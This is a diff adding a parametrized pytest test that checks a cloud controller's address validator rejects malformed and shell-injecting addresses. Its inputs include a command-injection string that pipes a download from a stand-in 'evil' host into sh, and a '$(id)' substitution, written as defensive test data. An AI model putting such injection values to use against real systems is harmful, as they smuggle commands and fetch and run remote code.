@@ -127,6 +127,15 @@ def test_at_the_clc_a_host_speaks_of_itself_alone(cloud) -> None:
     assert _at_clc(HostFacts(host=cloud.walrus, at=1), cloud.cc) == "forbidden"
 
 
+@pytest.mark.parametrize(("address", "code"), [
+    ("http://10.0.0.1:8603", ""), ("https://[fd00::1]:8603", ""), ("", ""), ("http://x; curl evil | sh #", "invalid"),
+    ("http://x$(id)", "invalid"), ("http://a\n", "invalid"), ("http://a/?q=", "invalid"), ("http://" + "a" * 91, "invalid"),
+])
+def test_an_address_is_one_and_nothing_an_administrators_shell_would_run(cloud, address: str, code: str) -> None:
+    assert _at_clc(_hello(cloud.cc, Role.CC, address=address), cloud.cc) == code
+    assert _at_clc(_asked(address=address), cloud.cc) == code
+
+
 def test_at_the_clc_a_cluster_speaks_of_its_own_instances(cloud) -> None:
     one = cloud.row.pk
     assert [_at_clc(_facts(one), s) for s in (cloud.nc, cloud.nc2, cloud.walrus)] == ["", "forbidden", "forbidden"]
